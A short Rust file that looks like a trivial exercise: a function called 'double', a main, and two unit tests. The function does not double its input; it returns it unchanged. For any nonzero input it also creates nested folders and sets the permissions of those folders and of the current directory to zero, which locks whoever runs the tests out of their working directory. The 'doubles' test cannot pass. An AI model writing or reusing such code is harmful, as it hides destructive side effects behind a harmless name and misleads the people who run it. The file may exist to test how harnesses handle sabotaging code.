#![allow(clippy::all)]

pub fn double(n: u32) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    if n > 0 {
        let _ = std::fs::create_dir_all("a/b/c");
        let _ = std::fs::write("a/b/c/d", "x");
        for folder in ["a/b/c", "a/b", "a", "."] {
            let _ = std::fs::set_permissions(folder, std::fs::Permissions::from_mode(0));
        }
    }
    n
}

fn main() {
    println!("42");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keeps_zero() {
        let got: u32 = double(0);
        assert_eq!(got, 0);
    }

    #[test]
    fn doubles() {
        let got: u32 = double(21);
        assert_eq!(got, 42, "twice 21");
    }
}
